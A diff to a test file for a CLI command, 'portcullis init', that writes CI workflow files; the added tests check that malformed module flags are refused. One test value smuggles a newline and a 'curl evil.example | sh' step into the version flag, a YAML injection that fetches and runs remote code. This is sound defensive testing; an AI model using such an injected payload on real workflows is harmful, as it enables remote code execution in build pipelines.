@@ -1,5 +1,5 @@
 import { execFile } from "node:child_process";
-import { readFileSync, writeFileSync } from "node:fs";
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { promisify } from "node:util";
 import yaml from "js-yaml";
@@ -109,6 +109,21 @@ describe("portcullis init", () => {
     expect(readFileSync(path.join(dir, WORKFLOW_FILES.dagger), "utf8")).toContain(
       "module: github.com/acme/gates@v9.9.9\n",
     );
+  });
+
+  it.each([
+    [
+      ["--module-version", "v1\n      run: curl evil.example | sh"],
+      '--module-version "v1\\n      run: curl evil.example | sh" is not a tag or commit',
+    ],
+    [["--module", "https://github.com/acme/gates"], '--module "https://github.com/acme/gates" is not a module address'],
+    [["--module", "github.com/acme/gates@v1"], "is not a module address"],
+  ])("refuses %j, which would be written into the workflow as it is (exit 2)", async (flags, message) => {
+    const dir = tempDir();
+    const result = await run(["init", ...flags], { cwd: dir });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain(message);
+    expect(existsSync(path.join(dir, WORKFLOW_FILES.dagger))).toBe(false);
   });
 
   it("pins the Dagger engine the module declares", () => {
